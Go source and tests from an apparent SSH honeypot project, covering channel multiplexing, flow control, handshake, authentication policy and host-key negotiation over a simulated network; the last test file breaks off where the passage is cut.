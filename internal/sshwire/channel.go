package sshwire

import (
	"errors"
	"fmt"
	"io"
	"sync"

	"honeyfarm/internal/wire"
)

const (
	defaultWindow    = 2 << 20 // 2 MiB initial window each direction
	defaultMaxPacket = 32 << 10
	windowThreshold  = 1 << 20 // re-advertise after consuming this much
)

// Request is a channel request (RFC 4254 §5.4) surfaced to the session
// owner: pty-req, env, shell, exec, window-change, exit-status, ...
type Request struct {
	Type    string
	Command string // for exec
	Term    string // for pty-req
	Cols    uint32
	Rows    uint32
	Name    string // for env
	Value   string
	Status  uint32 // for exit-status
}

// Channel is one SSH connection-protocol channel. Read and Write may be
// used concurrently with each other.
type Channel struct {
	mux       *mux
	localID   uint32
	remoteID  uint32
	maxPacket uint32

	mu           sync.Mutex
	cond         *sync.Cond
	buf          []byte
	eof          bool
	closed       bool
	closeErr     error // non-nil when the mux died (e.g. read timeout)
	sentClose    bool
	remoteWindow uint32
	consumed     uint32
	exitStatus   uint32
	gotExit      bool

	// Requests receives channel requests; the mux never blocks on it —
	// overflow requests are acknowledged but dropped from the queue.
	Requests chan Request

	replyCh  chan bool // channel-request replies for this channel
	done     chan struct{}
	doneOnce sync.Once
}

// Done is closed when the channel is closed by either side or the
// connection dies. Select on it alongside Requests to avoid blocking on
// a peer that leaves without sending the request you wait for.
func (ch *Channel) Done() <-chan struct{} { return ch.done }

func (ch *Channel) markDone() { ch.doneOnce.Do(func() { close(ch.done) }) }

// ChannelType of sessions (the only type a honeypot serves).
const channelTypeSession = "session"

var errChannelClosed = errors.New("sshwire: channel closed")

// mux multiplexes channels over one transport after authentication.
type mux struct {
	t *transport

	mu       sync.Mutex
	channels map[uint32]*Channel
	nextID   uint32
	accept   chan *Channel // incoming session channels (server side)
	err      error
	done     chan struct{}
}

func newMux(t *transport) *mux {
	m := &mux{
		t:        t,
		channels: make(map[uint32]*Channel),
		accept:   make(chan *Channel, 4),
		done:     make(chan struct{}),
	}
	go m.run()
	return m
}

func (m *mux) newChannel() *Channel {
	m.mu.Lock()
	defer m.mu.Unlock()
	ch := &Channel{
		mux:      m,
		localID:  m.nextID,
		Requests: make(chan Request, 16),
		replyCh:  make(chan bool, 4),
		done:     make(chan struct{}),
	}
	ch.cond = sync.NewCond(&ch.mu)
	m.nextID++
	m.channels[ch.localID] = ch
	return ch
}

func (m *mux) channel(id uint32) *Channel {
	m.mu.Lock()
	defer m.mu.Unlock()
	return m.channels[id]
}

// fail terminates the mux, waking all channels.
func (m *mux) fail(err error) {
	m.mu.Lock()
	if m.err == nil {
		m.err = err
		close(m.done)
	}
	chans := make([]*Channel, 0, len(m.channels))
	for _, ch := range m.channels {
		chans = append(chans, ch)
	}
	m.mu.Unlock()
	for _, ch := range chans {
		ch.mu.Lock()
		ch.closed = true
		ch.closeErr = err
		ch.cond.Broadcast()
		ch.mu.Unlock()
		ch.markDone()
	}
	close(m.accept)
}

func (m *mux) run() {
	for {
		payload, err := m.t.readPacket()
		if err != nil {
			m.fail(err)
			return
		}
		if err := m.dispatch(payload); err != nil {
			m.fail(err)
			return
		}
	}
}

func (m *mux) dispatch(payload []byte) error {
	r := wire.NewReader(payload[1:])
	switch payload[0] {
	case msgChannelOpen:
		chType := r.Text()
		remoteID := r.Uint32()
		remoteWindow := r.Uint32()
		maxPacket := r.Uint32()
		if err := r.Err(); err != nil {
			return err
		}
		if chType != channelTypeSession {
			b := wire.NewBuilder(64)
			b.Byte(msgChannelOpenFailure).Uint32(remoteID).Uint32(openUnknownChannelType).
				Text("unknown channel type").Text("")
			return m.t.writePacket(b.Bytes())
		}
		ch := m.newChannel()
		ch.remoteID = remoteID
		ch.remoteWindow = remoteWindow
		ch.maxPacket = maxPacket
		b := wire.NewBuilder(32)
		b.Byte(msgChannelOpenConfirm).Uint32(remoteID).Uint32(ch.localID).
			Uint32(defaultWindow).Uint32(defaultMaxPacket)
		if err := m.t.writePacket(b.Bytes()); err != nil {
			return err
		}
		select {
		case m.accept <- ch:
		default:
			// Accept queue full: reject politely by closing.
			_ = ch.Close()
		}

	case msgChannelOpenConfirm:
		localID := r.Uint32()
		remoteID := r.Uint32()
		window := r.Uint32()
		maxPacket := r.Uint32()
		if err := r.Err(); err != nil {
			return err
		}
		if ch := m.channel(localID); ch != nil {
			ch.mu.Lock()
			ch.remoteID = remoteID
			ch.remoteWindow = window
			ch.maxPacket = maxPacket
			ch.mu.Unlock()
			select {
			case ch.replyCh <- true:
			default:
			}
		}

	case msgChannelOpenFailure:
		localID := r.Uint32()
		if ch := m.channel(localID); ch != nil {
			select {
			case ch.replyCh <- false:
			default:
			}
		}

	case msgChannelData:
		localID := r.Uint32()
		data := r.String()
		if err := r.Err(); err != nil {
			return err
		}
		if ch := m.channel(localID); ch != nil {
			ch.mu.Lock()
			ch.buf = append(ch.buf, data...)
			ch.cond.Broadcast()
			ch.mu.Unlock()
		}

	case msgChannelExtendedData:
		localID := r.Uint32()
		r.Uint32() // data type code (stderr); fold into the stream
		data := r.String()
		if err := r.Err(); err != nil {
			return err
		}
		if ch := m.channel(localID); ch != nil {
			ch.mu.Lock()
			ch.buf = append(ch.buf, data...)
			ch.cond.Broadcast()
			ch.mu.Unlock()
		}

	case msgChannelWindowAdjust:
		localID := r.Uint32()
		add := r.Uint32()
		if ch := m.channel(localID); ch != nil {
			ch.mu.Lock()
			ch.remoteWindow += add
			ch.cond.Broadcast()
			ch.mu.Unlock()
		}

	case msgChannelEOF:
		localID := r.Uint32()
		if ch := m.channel(localID); ch != nil {
			ch.mu.Lock()
			ch.eof = true
			ch.cond.Broadcast()
			ch.mu.Unlock()
		}

	case msgChannelClose:
		localID := r.Uint32()
		if ch := m.channel(localID); ch != nil {
			ch.mu.Lock()
			alreadySent := ch.sentClose
			ch.closed = true
			ch.eof = true
			ch.cond.Broadcast()
			ch.mu.Unlock()
			ch.markDone()
			if !alreadySent {
				//lint:ignore error-discard best-effort close echo; the transport reader surfaces real failures
				_ = ch.sendClose()
			}
		}

	case msgChannelRequest:
		localID := r.Uint32()
		reqType := r.Text()
		wantReply := r.Bool()
		req := Request{Type: reqType}
		switch reqType {
		case "exec":
			req.Command = r.Text()
		case "pty-req":
			req.Term = r.Text()
			req.Cols = r.Uint32()
			req.Rows = r.Uint32()
		case "env":
			req.Name = r.Text()
			req.Value = r.Text()
		case "exit-status":
			req.Status = r.Uint32()
		case "window-change":
			req.Cols = r.Uint32()
			req.Rows = r.Uint32()
		}
		if err := r.Err(); err != nil {
			return err
		}
		ch := m.channel(localID)
		if ch == nil {
			return nil
		}
		known := reqType == "pty-req" || reqType == "env" || reqType == "shell" ||
			reqType == "exec" || reqType == "window-change" || reqType == "exit-status" ||
			reqType == "subsystem"
		if wantReply {
			b := wire.NewBuilder(16)
			msg := byte(msgChannelRequestSuccess)
			if !known || reqType == "subsystem" {
				msg = msgChannelRequestFailure
			}
			b.Byte(msg).Uint32(ch.remoteIDLocked())
			if err := m.t.writePacket(b.Bytes()); err != nil {
				return err
			}
		}
		if reqType == "exit-status" {
			ch.mu.Lock()
			ch.exitStatus = req.Status
			ch.gotExit = true
			ch.mu.Unlock()
		}
		select {
		case ch.Requests <- req:
		default:
		}

	case msgChannelRequestSuccess:
		localID := r.Uint32()
		if ch := m.channel(localID); ch != nil {
			select {
			case ch.replyCh <- true:
			default:
			}
		}

	case msgChannelRequestFailure:
		localID := r.Uint32()
		if ch := m.channel(localID); ch != nil {
			select {
			case ch.replyCh <- false:
			default:
			}
		}

	case msgGlobalRequest:
		r.Text() // request name
		if r.Bool() {
			b := wire.NewBuilder(4)
			b.Byte(msgRequestFailure)
			return m.t.writePacket(b.Bytes())
		}

	case msgServiceRequest, msgUserauthRequest:
		// Out-of-phase messages after auth: protocol error.
		return fmt.Errorf("sshwire: unexpected message %d after authentication", payload[0])
	}
	return nil
}

func (ch *Channel) remoteIDLocked() uint32 {
	ch.mu.Lock()
	defer ch.mu.Unlock()
	return ch.remoteID
}

// Read returns channel data, blocking until data, EOF, or close.
func (ch *Channel) Read(p []byte) (int, error) {
	ch.mu.Lock()
	defer ch.mu.Unlock()
	for len(ch.buf) == 0 {
		if ch.closed && ch.closeErr != nil {
			return 0, ch.closeErr
		}
		if ch.eof || ch.closed {
			return 0, io.EOF
		}
		ch.cond.Wait()
	}
	n := copy(p, ch.buf)
	ch.buf = ch.buf[n:]
	ch.consumed += uint32(n)
	var adjust uint32
	if ch.consumed >= windowThreshold {
		adjust = ch.consumed
		ch.consumed = 0
	}
	remoteID := ch.remoteID
	ch.mu.Unlock()
	if adjust > 0 {
		b := wire.NewBuilder(16)
		b.Byte(msgChannelWindowAdjust).Uint32(remoteID).Uint32(adjust)
		//lint:ignore error-discard advisory window update; a dead transport fails the next Read
		_ = ch.mux.t.writePacket(b.Bytes())
	}
	ch.mu.Lock()
	return n, nil
}

// Write sends channel data, splitting at the peer's maximum packet size
// and honoring its advertised window.
func (ch *Channel) Write(p []byte) (int, error) {
	total := 0
	for len(p) > 0 {
		ch.mu.Lock()
		for ch.remoteWindow == 0 && !ch.closed {
			ch.cond.Wait()
		}
		if ch.closed {
			ch.mu.Unlock()
			return total, errChannelClosed
		}
		n := len(p)
		if max := int(ch.maxPacket) - 64; max > 0 && n > max {
			n = max
		}
		if w := int(ch.remoteWindow); n > w {
			n = w
		}
		ch.remoteWindow -= uint32(n)
		remoteID := ch.remoteID
		ch.mu.Unlock()

		b := wire.NewBuilder(n + 16)
		b.Byte(msgChannelData).Uint32(remoteID).String(p[:n])
		if err := ch.mux.t.writePacket(b.Bytes()); err != nil {
			return total, err
		}
		p = p[n:]
		total += n
	}
	return total, nil
}

// SendRequest issues a channel request and, if wantReply, waits for the
// peer's success/failure response.
func (ch *Channel) SendRequest(reqType string, wantReply bool, extra func(*wire.Builder)) (bool, error) {
	b := wire.NewBuilder(64)
	b.Byte(msgChannelRequest).Uint32(ch.remoteIDLocked()).Text(reqType).Bool(wantReply)
	if extra != nil {
		extra(b)
	}
	if err := ch.mux.t.writePacket(b.Bytes()); err != nil {
		return false, err
	}
	if !wantReply {
		return true, nil
	}
	select {
	case ok := <-ch.replyCh:
		return ok, nil
	case <-ch.mux.done:
		return false, ch.mux.errLocked()
	}
}

func (m *mux) errLocked() error {
	m.mu.Lock()
	defer m.mu.Unlock()
	if m.err != nil {
		return m.err
	}
	return errors.New("sshwire: connection closed")
}

// SendExitStatus reports a command's exit status (server side).
func (ch *Channel) SendExitStatus(status uint32) error {
	_, err := ch.SendRequest("exit-status", false, func(b *wire.Builder) {
		b.Uint32(status)
	})
	return err
}

// ExitStatus returns the exit status received from the peer, if any.
func (ch *Channel) ExitStatus() (uint32, bool) {
	ch.mu.Lock()
	defer ch.mu.Unlock()
	return ch.exitStatus, ch.gotExit
}

// CloseWrite signals EOF for our direction without closing the channel.
func (ch *Channel) CloseWrite() error {
	b := wire.NewBuilder(8)
	b.Byte(msgChannelEOF).Uint32(ch.remoteIDLocked())
	return ch.mux.t.writePacket(b.Bytes())
}

func (ch *Channel) sendClose() error {
	ch.mu.Lock()
	if ch.sentClose {
		ch.mu.Unlock()
		return nil
	}
	ch.sentClose = true
	remoteID := ch.remoteID
	ch.mu.Unlock()
	b := wire.NewBuilder(8)
	b.Byte(msgChannelClose).Uint32(remoteID)
	return ch.mux.t.writePacket(b.Bytes())
}

// Close closes the channel, notifying the peer.
func (ch *Channel) Close() error {
	err := ch.sendClose()
	ch.mu.Lock()
	ch.closed = true
	ch.cond.Broadcast()
	ch.mu.Unlock()
	ch.markDone()
	return err
}
