package sshwire

import (
	"crypto/ed25519"
	"crypto/rand"
	"crypto/rsa"
	"errors"
	"io"
	"net"
	"strings"
	"sync"
	"testing"
	"time"

	"honeyfarm/internal/netsim"
)

func testHostKey(t testing.TB) ed25519.PrivateKey {
	t.Helper()
	_, priv, err := ed25519.GenerateKey(rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	return priv
}

// pipePair returns a connected client/server net.Conn pair over netsim.
func pipePair(t testing.TB) (client, server net.Conn) {
	t.Helper()
	f := netsim.NewFabric(0)
	l, err := f.Listen("10.0.0.1", 22)
	if err != nil {
		t.Fatal(err)
	}
	defer l.Close()
	var srv net.Conn
	var wg sync.WaitGroup
	wg.Add(1)
	go func() {
		defer wg.Done()
		srv, _ = l.Accept()
	}()
	cli, err := f.Dial("10.2.2.2", netsim.Addr{IP: "10.0.0.1", Port: 22})
	if err != nil {
		t.Fatal(err)
	}
	wg.Wait()
	return cli, srv
}

// cowrieAuth is the paper's honeypot policy: user root, any password
// except "root".
func cowrieAuth(user, password string) bool {
	return user == "root" && password != "root"
}

type handshakeResult struct {
	conn *ServerConn
	err  error
}

func startServer(t testing.TB, nc net.Conn, cfg *ServerConfig) chan handshakeResult {
	t.Helper()
	ch := make(chan handshakeResult, 1)
	go func() {
		conn, err := NewServerConn(nc, cfg)
		ch <- handshakeResult{conn, err}
	}()
	return ch
}

func TestHandshakeAndExec(t *testing.T) {
	cli, srv := pipePair(t)
	hostKey := testHostKey(t)
	var attempts []AuthAttempt
	var mu sync.Mutex
	srvCh := startServer(t, srv, &ServerConfig{
		HostKey:          hostKey,
		PasswordCallback: cowrieAuth,
		AuthLogCallback: func(a AuthAttempt) {
			mu.Lock()
			attempts = append(attempts, a)
			mu.Unlock()
		},
	})

	cc, err := NewClientConn(cli, &ClientConfig{User: "root", Password: "admin123", Version: "SSH-2.0-Go-test"})
	if err != nil {
		t.Fatal(err)
	}
	defer cc.Close()
	res := <-srvCh
	if res.err != nil {
		t.Fatal(res.err)
	}
	sc := res.conn
	defer sc.Close()
	if sc.User() != "root" {
		t.Errorf("User = %q", sc.User())
	}
	if sc.ClientVersion() != "SSH-2.0-Go-test" {
		t.Errorf("ClientVersion = %q", sc.ClientVersion())
	}
	if !strings.HasPrefix(cc.ServerVersion(), "SSH-2.0-OpenSSH") {
		t.Errorf("ServerVersion = %q", cc.ServerVersion())
	}
	mu.Lock()
	if len(attempts) != 1 || !attempts[0].Accepted || attempts[0].Password != "admin123" {
		t.Errorf("attempts = %+v", attempts)
	}
	mu.Unlock()

	// Client runs an exec command; server echoes and reports exit status.
	done := make(chan error, 1)
	go func() {
		sess, err := sc.AcceptSession()
		if err != nil {
			done <- err
			return
		}
		var req Request
		for req = range sess.Requests {
			if req.Type == "exec" {
				break
			}
		}
		if req.Command != "uname -a" {
			done <- errors.New("wrong exec command: " + req.Command)
			return
		}
		if _, err := sess.Write([]byte("Linux svr04 4.19.0\n")); err != nil {
			done <- err
			return
		}
		if err := sess.SendExitStatus(0); err != nil {
			done <- err
			return
		}
		_ = sess.CloseWrite()
		done <- sess.Close()
	}()

	sess, err := cc.OpenSession()
	if err != nil {
		t.Fatal(err)
	}
	if err := RequestExec(sess, "uname -a"); err != nil {
		t.Fatal(err)
	}
	out, err := io.ReadAll(sess)
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(string(out), "Linux svr04") {
		t.Errorf("exec output = %q", out)
	}
	if status, ok := sess.ExitStatus(); !ok || status != 0 {
		t.Errorf("exit status = %d ok=%v", status, ok)
	}
	if err := <-done; err != nil {
		t.Fatal(err)
	}
}

func TestInteractiveShell(t *testing.T) {
	cli, srv := pipePair(t)
	srvCh := startServer(t, srv, &ServerConfig{
		HostKey:          testHostKey(t),
		PasswordCallback: cowrieAuth,
	})
	cc, err := NewClientConn(cli, &ClientConfig{User: "root", Password: "1234"})
	if err != nil {
		t.Fatal(err)
	}
	defer cc.Close()
	res := <-srvCh
	if res.err != nil {
		t.Fatal(res.err)
	}
	sc := res.conn
	defer sc.Close()

	go func() {
		sess, err := sc.AcceptSession()
		if err != nil {
			return
		}
		sawPTY := false
		for req := range sess.Requests {
			if req.Type == "pty-req" {
				sawPTY = req.Term == "xterm" && req.Cols == 80
			}
			if req.Type == "shell" {
				break
			}
		}
		if !sawPTY {
			_, _ = sess.Write([]byte("NO PTY\n"))
			_ = sess.Close()
			return
		}
		_, _ = sess.Write([]byte("# "))
		buf := make([]byte, 256)
		n, err := sess.Read(buf)
		if err != nil {
			return
		}
		_, _ = sess.Write([]byte("echoed: " + string(buf[:n])))
		_ = sess.Close()
	}()

	sess, err := cc.OpenSession()
	if err != nil {
		t.Fatal(err)
	}
	if err := RequestPTY(sess, "xterm", 80, 24); err != nil {
		t.Fatal(err)
	}
	if err := RequestShell(sess); err != nil {
		t.Fatal(err)
	}
	prompt := make([]byte, 2)
	if _, err := io.ReadFull(sess, prompt); err != nil {
		t.Fatal(err)
	}
	if string(prompt) != "# " {
		t.Errorf("prompt = %q", prompt)
	}
	if _, err := sess.Write([]byte("ls\n")); err != nil {
		t.Fatal(err)
	}
	out, err := io.ReadAll(sess)
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(string(out), "echoed: ls") {
		t.Errorf("shell output = %q", out)
	}
}

func TestAuthRejectedRootRoot(t *testing.T) {
	cli, srv := pipePair(t)
	srvCh := startServer(t, srv, &ServerConfig{
		HostKey:          testHostKey(t),
		PasswordCallback: cowrieAuth,
	})
	_, err := NewClientConn(cli, &ClientConfig{User: "root", Password: "root"})
	if !errors.Is(err, ErrAuthFailed) {
		t.Errorf("root:root err = %v, want ErrAuthFailed", err)
	}
	cli.Close()
	<-srvCh
}

func TestAuthRejectedNonRoot(t *testing.T) {
	cli, srv := pipePair(t)
	srvCh := startServer(t, srv, &ServerConfig{
		HostKey:          testHostKey(t),
		PasswordCallback: cowrieAuth,
	})
	_, err := NewClientConn(cli, &ClientConfig{User: "admin", Password: "admin"})
	if !errors.Is(err, ErrAuthFailed) {
		t.Errorf("admin err = %v, want ErrAuthFailed", err)
	}
	cli.Close()
	<-srvCh
}

func TestThreeStrikesDisconnect(t *testing.T) {
	cli, srv := pipePair(t)
	var attempts int
	var mu sync.Mutex
	srvCh := startServer(t, srv, &ServerConfig{
		HostKey:          testHostKey(t),
		PasswordCallback: func(string, string) bool { return false },
		AuthLogCallback: func(AuthAttempt) {
			mu.Lock()
			attempts++
			mu.Unlock()
		},
	})
	cc, err := NewClientConn(cli, &ClientConfig{User: "root", SkipAuth: true})
	if err != nil {
		t.Fatal(err)
	}
	idx, err := cc.TryPasswords("root", []string{"a", "b", "c", "d", "e"})
	if idx != -1 || err == nil {
		t.Fatalf("idx=%d err=%v, want disconnect", idx, err)
	}
	// The server disconnects after 3 tries; the 4th/5th never complete.
	if !errors.Is(err, ErrDisconnected) && err != ErrAuthFailed {
		// Transport may surface EOF depending on timing; accept either
		// disconnect form but not success.
		if !strings.Contains(err.Error(), "EOF") && !strings.Contains(err.Error(), "disconnect") {
			t.Errorf("unexpected error form: %v", err)
		}
	}
	res := <-srvCh
	if res.err == nil {
		t.Error("server should report handshake failure after 3 strikes")
	}
	mu.Lock()
	if attempts != 3 {
		t.Errorf("attempts = %d, want 3", attempts)
	}
	mu.Unlock()
	cli.Close()
}

func TestTryPasswordsEventualSuccess(t *testing.T) {
	cli, srv := pipePair(t)
	srvCh := startServer(t, srv, &ServerConfig{
		HostKey:          testHostKey(t),
		PasswordCallback: cowrieAuth,
	})
	cc, err := NewClientConn(cli, &ClientConfig{User: "root", SkipAuth: true})
	if err != nil {
		t.Fatal(err)
	}
	idx, err := cc.TryPasswords("root", []string{"root", "1234"})
	if err != nil || idx != 1 {
		t.Fatalf("idx=%d err=%v, want 1/nil", idx, err)
	}
	res := <-srvCh
	if res.err != nil {
		t.Fatal(res.err)
	}
	if res.conn.User() != "root" {
		t.Errorf("user = %q", res.conn.User())
	}
	cc.Close()
	res.conn.Close()
}

func TestSkipAuthScanner(t *testing.T) {
	// NO_CRED behavior: complete the SSH handshake, never authenticate.
	cli, srv := pipePair(t)
	srvCh := startServer(t, srv, &ServerConfig{
		HostKey:          testHostKey(t),
		PasswordCallback: cowrieAuth,
	})
	cc, err := NewClientConn(cli, &ClientConfig{SkipAuth: true, Version: "SSH-2.0-Nmap-probe"})
	if err != nil {
		t.Fatal(err)
	}
	cc.Close()
	res := <-srvCh
	if res.err == nil {
		t.Error("server should fail when client leaves before auth")
	}
}

func TestHostKeyVerification(t *testing.T) {
	cli, srv := pipePair(t)
	hostKey := testHostKey(t)
	startServer(t, srv, &ServerConfig{
		HostKey:          hostKey,
		PasswordCallback: cowrieAuth,
	})
	wantPub := hostKey.Public().(ed25519.PublicKey)
	_, err := NewClientConn(cli, &ClientConfig{
		User: "root", Password: "x",
		HostKeyCallback: func(key ed25519.PublicKey) error {
			if !key.Equal(wantPub) {
				return errors.New("unexpected host key")
			}
			return nil
		},
	})
	if err != nil {
		t.Fatalf("verified host key rejected: %v", err)
	}
}

func TestHostKeyRejection(t *testing.T) {
	cli, srv := pipePair(t)
	startServer(t, srv, &ServerConfig{
		HostKey:          testHostKey(t),
		PasswordCallback: cowrieAuth,
	})
	_, err := NewClientConn(cli, &ClientConfig{
		User: "root", Password: "x",
		HostKeyCallback: func(ed25519.PublicKey) error { return errors.New("nope") },
	})
	if err == nil {
		t.Fatal("client accepted rejected host key")
	}
}

func TestBannerDelivered(t *testing.T) {
	cli, srv := pipePair(t)
	srvCh := startServer(t, srv, &ServerConfig{
		HostKey:          testHostKey(t),
		PasswordCallback: cowrieAuth,
		Banner:           "Authorized access only",
	})
	cc, err := NewClientConn(cli, &ClientConfig{User: "root", Password: "pw"})
	if err != nil {
		t.Fatal(err)
	}
	cc.Close()
	res := <-srvCh
	if res.err != nil {
		t.Fatal(res.err)
	}
	res.conn.Close()
}

func TestLargeDataTransfer(t *testing.T) {
	cli, srv := pipePair(t)
	srvCh := startServer(t, srv, &ServerConfig{
		HostKey:          testHostKey(t),
		PasswordCallback: cowrieAuth,
	})
	cc, err := NewClientConn(cli, &ClientConfig{User: "root", Password: "pw"})
	if err != nil {
		t.Fatal(err)
	}
	defer cc.Close()
	res := <-srvCh
	if res.err != nil {
		t.Fatal(res.err)
	}
	sc := res.conn
	defer sc.Close()

	const size = 1 << 20 // crosses packet and window boundaries
	go func() {
		sess, err := sc.AcceptSession()
		if err != nil {
			return
		}
		for req := range sess.Requests {
			if req.Type == "exec" {
				break
			}
		}
		payload := make([]byte, size)
		for i := range payload {
			payload[i] = byte(i)
		}
		_, _ = sess.Write(payload)
		_ = sess.CloseWrite()
		_ = sess.Close()
	}()

	sess, err := cc.OpenSession()
	if err != nil {
		t.Fatal(err)
	}
	if err := RequestExec(sess, "cat bigfile"); err != nil {
		t.Fatal(err)
	}
	got, err := io.ReadAll(sess)
	if err != nil {
		t.Fatal(err)
	}
	if len(got) != size {
		t.Fatalf("got %d bytes, want %d", len(got), size)
	}
	for i := range got {
		if got[i] != byte(i) {
			t.Fatalf("corruption at offset %d", i)
		}
	}
}

func TestGarbageVersionLine(t *testing.T) {
	cli, srv := pipePair(t)
	srvCh := startServer(t, srv, &ServerConfig{
		HostKey:          testHostKey(t),
		PasswordCallback: cowrieAuth,
	})
	// A scanner that sends junk instead of an SSH identification string.
	if _, err := cli.Write([]byte("GET / HTTP/1.1\r\n\r\n")); err != nil {
		t.Fatal(err)
	}
	cli.Close()
	res := <-srvCh
	if res.err == nil {
		t.Fatal("server accepted non-SSH client")
	}
}

func TestClientTimeoutViaDeadline(t *testing.T) {
	cli, srv := pipePair(t)
	// Server that never responds: client read should hit the deadline.
	_ = srv
	cli.SetReadDeadline(time.Now().Add(50 * time.Millisecond))
	_, err := NewClientConn(cli, &ClientConfig{User: "root", Password: "x"})
	if err == nil {
		t.Fatal("handshake against silent server should fail")
	}
}

func BenchmarkHandshake(b *testing.B) {
	hostKey := testHostKey(b)
	f := netsim.NewFabric(0)
	l, err := f.Listen("10.0.0.1", 22)
	if err != nil {
		b.Fatal(err)
	}
	defer l.Close()
	cfg := &ServerConfig{HostKey: hostKey, PasswordCallback: cowrieAuth}
	go func() {
		for {
			c, err := l.Accept()
			if err != nil {
				return
			}
			go func(c net.Conn) {
				sc, err := NewServerConn(c, cfg)
				if err == nil {
					sc.Close()
				}
			}(c)
		}
	}()
	b.ResetTimer()
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		c, err := f.Dial("10.2.2.2", netsim.Addr{IP: "10.0.0.1", Port: 22})
		if err != nil {
			b.Fatal(err)
		}
		cc, err := NewClientConn(c, &ClientConfig{User: "root", Password: "pw"})
		if err != nil {
			b.Fatal(err)
		}
		cc.Close()
	}
}

func BenchmarkEncryptedThroughput(b *testing.B) {
	cli, srv := pipePair(b)
	srvCh := startServer(b, srv, &ServerConfig{HostKey: testHostKey(b), PasswordCallback: cowrieAuth})
	cc, err := NewClientConn(cli, &ClientConfig{User: "root", Password: "pw"})
	if err != nil {
		b.Fatal(err)
	}
	defer cc.Close()
	res := <-srvCh
	if res.err != nil {
		b.Fatal(res.err)
	}
	defer res.conn.Close()

	ready := make(chan *Channel, 1)
	go func() {
		sess, err := res.conn.AcceptSession()
		if err != nil {
			return
		}
		for req := range sess.Requests {
			if req.Type == "exec" {
				break
			}
		}
		ready <- sess
	}()
	sess, err := cc.OpenSession()
	if err != nil {
		b.Fatal(err)
	}
	if err := RequestExec(sess, "sink"); err != nil {
		b.Fatal(err)
	}
	srvSess := <-ready
	go func() {
		buf := make([]byte, 64<<10)
		for {
			if _, err := srvSess.Read(buf); err != nil {
				return
			}
		}
	}()
	payload := make([]byte, 32<<10)
	b.SetBytes(int64(len(payload)))
	b.ResetTimer()
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		if _, err := sess.Write(payload); err != nil {
			b.Fatal(err)
		}
	}
}

// TestDHGroup14Handshake exercises the diffie-hellman-group14-sha256 kex
// path end to end (ed25519-signed).
func TestDHGroup14Handshake(t *testing.T) {
	cli, srv := pipePair(t)
	srvCh := startServer(t, srv, &ServerConfig{
		HostKey:          testHostKey(t),
		PasswordCallback: cowrieAuth,
	})
	cc, err := NewClientConn(cli, &ClientConfig{
		User: "root", Password: "pw",
		KexAlgos: []string{"diffie-hellman-group14-sha256"},
	})
	if err != nil {
		t.Fatal(err)
	}
	defer cc.Close()
	res := <-srvCh
	if res.err != nil {
		t.Fatal(res.err)
	}
	defer res.conn.Close()
	sess, err := cc.OpenSession()
	if err != nil {
		t.Fatal(err)
	}
	go func() {
		s, err := res.conn.AcceptSession()
		if err != nil {
			return
		}
		for req := range s.Requests {
			if req.Type == "exec" {
				break
			}
		}
		_, _ = s.Write([]byte("dh ok"))
		_ = s.CloseWrite()
		_ = s.Close()
	}()
	if err := RequestExec(sess, "probe"); err != nil {
		t.Fatal(err)
	}
	out, _ := io.ReadAll(sess)
	if string(out) != "dh ok" {
		t.Errorf("out = %q", out)
	}
}

// TestRSAHostKeyHandshake exercises the rsa-sha2-256 host key path over
// both kex algorithms.
func TestRSAHostKeyHandshake(t *testing.T) {
	rsaKey, err := rsa.GenerateKey(rand.Reader, 2048)
	if err != nil {
		t.Fatal(err)
	}
	for _, kex := range []string{"curve25519-sha256", "diffie-hellman-group14-sha256"} {
		kex := kex
		t.Run(kex, func(t *testing.T) {
			cli, srv := pipePair(t)
			srvCh := startServer(t, srv, &ServerConfig{
				HostKey:          testHostKey(t),
				RSAHostKey:       rsaKey,
				PasswordCallback: cowrieAuth,
			})
			sawAlgo := ""
			cc, err := NewClientConn(cli, &ClientConfig{
				User: "root", Password: "pw",
				KexAlgos:     []string{kex},
				HostKeyAlgos: []string{"rsa-sha2-256"},
				RawHostKeyCallback: func(algo string, blob []byte) error {
					sawAlgo = algo
					if _, err := parseRSAKeyBlob(blob); err != nil {
						return err
					}
					return nil
				},
			})
			if err != nil {
				t.Fatal(err)
			}
			cc.Close()
			if sawAlgo != "rsa-sha2-256" {
				t.Errorf("negotiated host key algo = %q", sawAlgo)
			}
			res := <-srvCh
			if res.err != nil {
				t.Fatal(res.err)
			}
			res.conn.Close()
		})
	}
}

// TestRSAOnlyClientAgainstEd25519OnlyServer must fail negotiation.
func TestHostKeyNegotiationMismatch(t *testing.T) {
	cli, srv := pipePair(t)
	srvCh := startServer(t, srv, &ServerConfig{
		HostKey:          testHostKey(t),
		PasswordCallback: cowrieAuth,
	})
	_, err := NewClientConn(cli, &ClientConfig{
		User: "root", Password: "pw",
		HostKeyAlgos: []string{"rsa-sha2-256"},
	})
	if err == nil {
		t.Fatal("rsa-only client should fail against ed25519-only server")
	}
	cli.Close()
	<-srvCh
}
