package sshwire

import (
	"bytes"
	"crypto/ed25519"
	"crypto/rand"
	"crypto/rsa"
	"math/big"
	"testing"
	"testing/quick"
)

func TestKexInitRoundTrip(t *testing.T) {
	k := localKexInit(nil, nil)
	payload := k.marshal()
	parsed, err := parseKexInit(payload)
	if err != nil {
		t.Fatal(err)
	}
	if parsed.cookie != k.cookie {
		t.Error("cookie lost")
	}
	if len(parsed.kexAlgos) != 3 || parsed.kexAlgos[0] != algoKex || parsed.kexAlgos[2] != algoKexDH14 {
		t.Errorf("kex algos = %v", parsed.kexAlgos)
	}
	if parsed.hostKeyAlgos[0] != algoHostKey || parsed.ciphersC2S[0] != algoCipher {
		t.Error("algorithm lists lost")
	}
	if !bytes.Equal(parsed.raw, payload) {
		t.Error("raw payload not preserved")
	}
}

func TestParseKexInitErrors(t *testing.T) {
	if _, err := parseKexInit(nil); err == nil {
		t.Error("nil payload should fail")
	}
	if _, err := parseKexInit([]byte{msgNewKeys}); err == nil {
		t.Error("wrong message type should fail")
	}
	if _, err := parseKexInit([]byte{msgKexInit, 1, 2, 3}); err == nil {
		t.Error("truncated payload should fail")
	}
}

func TestNegotiate(t *testing.T) {
	got, err := negotiate([]string{"a", "b"}, []string{"b", "c"}, "test")
	if err != nil || got != "b" {
		t.Errorf("negotiate = %q, %v", got, err)
	}
	// Client preference wins.
	got, err = negotiate([]string{"x", "y"}, []string{"y", "x"}, "test")
	if err != nil || got != "x" {
		t.Errorf("negotiate preference = %q", got)
	}
